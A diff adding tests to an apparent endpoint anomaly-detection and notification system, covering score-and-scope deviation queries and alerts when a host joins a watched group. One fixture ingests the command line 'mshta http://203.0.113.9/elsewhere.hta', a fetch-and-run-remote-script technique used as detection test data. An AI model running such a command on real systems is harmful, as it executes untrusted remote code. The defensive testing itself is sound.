@@ -3,6 +3,7 @@ import { ingestExamples } from '@/lib/operations/ingest/example-use'
 import { queueRebuild, recompute } from '@/lib/operations/recompute/recompute'
 import { forgetTriage, itemOf, judge, withTriageExamples } from '@/lib/operations/triage-examples'
 import { readClock, tellOfNewDeviations } from '@/lib/store/notifications/new-deviations'
+import { listDeviating } from '@/lib/store/notifications/reader-queue'
 import { pool } from '@/lib/store/pool'
 import { listInbox } from '@/lib/store/screens/notifications'
 import { chooseNotification } from './choices'
@@ -14,6 +15,41 @@ const EVERYTHING = { inApp: true, email: true, webhook: true, minScoreMillibits:
 beforeEach(async () => {
   await pool().query('DELETE FROM notification')
   await pool().query('DELETE FROM notification_choice')
+})
+
+type Hit = { id: string; score: number; settled: boolean; inGroup: boolean }
+
+test('what deviates from a score on is what all hits say of it, in sight and where nothing is about to be computed', async () => {
+  const { groupId } = examples()
+  await recompute(pool())
+  await pool().query(
+    `UPDATE host_work SET dirty_from = '2026-01-06' WHERE host_id = (SELECT min(host_id) FROM deviation_hit)`,
+  )
+  const { rows: hits } = await pool().query<Hit>(
+    `SELECT t.deviation_id AS id, t.score_millibits AS score, w.dirty_from IS NULL OR w.dirty_from > t.day AS settled,
+       t.host_id IN (SELECT host_id FROM host_group_member WHERE group_id = $1) AS "inGroup"
+     FROM deviation_hit t LEFT JOIN host_work w ON w.host_id = t.host_id`,
+    [groupId],
+  )
+  const scores = [...new Set(hits.map(({ score }) => score))]
+  expect(scores.length).toBeGreaterThan(1)
+  for (const least of scores.flatMap((score) => [score, score + 1]))
+    for (const scope of [{ kind: 'all' }, { kind: 'groups', groupIds: [groupId] }] as const) {
+      const counted = hits.filter(({ score, inGroup }) => score >= least && (scope.kind === 'all' || inGroup))
+      const expected = [...new Set(counted.map(({ id }) => id))].map((id) => {
+        const own = counted.filter((hit) => hit.id === id)
+        return {
+          id,
+          scoreMillibits: Math.max(...own.map(({ score }) => score)),
+          settled: own.some(({ settled }) => settled),
+        }
+      })
+      const found = await listDeviating(pool(), scope, least)
+      expect(
+        new Set(found.map(({ id, scoreMillibits, settled }) => ({ id, scoreMillibits, settled }))),
+      ).toEqual(new Set(expected))
+    }
+  await recompute(pool())
 })
 
 test('new deviations are told to who chose so, from the score they chose, in their scope, and many at once together', async () => {
@@ -85,6 +121,43 @@ test('a deviation that rises, and one that comes back, is told once each in thes
   await scores(110_000)
   expect(await told()).toEqual(['A deviation is back, 110.0 bits: Regsvr32.exe'])
   expect(await told()).toEqual([])
+})
+
+test('what shows because its host joined the groups that somebody sees is told as new to them, once', async () => {
+  const { groupResponder, groupId } = examples()
+  const limit = 'INSERT INTO account_host_group (account_id, group_id) VALUES ($1, $2)'
+  await pool().query(limit, [groupResponder.accountId, groupId])
+  const told = async () => {
+    await pool().query('DELETE FROM notification')
+    await recompute(pool())
+    await tellOfNewDeviations(pool(), await readClock(pool()), openChannels())
+    return (await listInbox(groupResponder.accountId)).map(({ title }) => title)
+  }
+  await ingestExamples(pool(), [
+    {
+      host: 'ws-9.example',
+      at: '2026-01-08T12:00:00Z',
+      image: 'C:\\Windows\\System32\\mshta.exe',
+      commandLine: 'mshta http://203.0.113.9/elsewhere.hta',
+    },
+  ])
+  expect(await told()).toEqual([])
+  await chooseNotification(groupResponder, {
+    event: 'deviation-found',
+    ...EVERYTHING,
+    minScoreMillibits: 4000,
+  })
+  expect(await told()).toEqual([])
+  await pool().query(
+    `INSERT INTO host_group_member (host_id, group_id, valid_from) SELECT id, $1, '2026-01-01' FROM host WHERE name = 'ws-9.example'`,
+    [groupId],
+  )
+  const titles = await told()
+  expect(titles.length).toBeGreaterThan(0)
+  for (const title of titles)
+    expect(title).toMatch(/^A deviation on a host that is new to you, \d+\.\d bits: Mshta\.exe$/)
+  expect(await told()).toEqual([])
+  await pool().query('DELETE FROM account_host_group')
 })
 
 test('what was explained and deviates all the same is told, and what was so when somebody chose to be told is not', async () => {
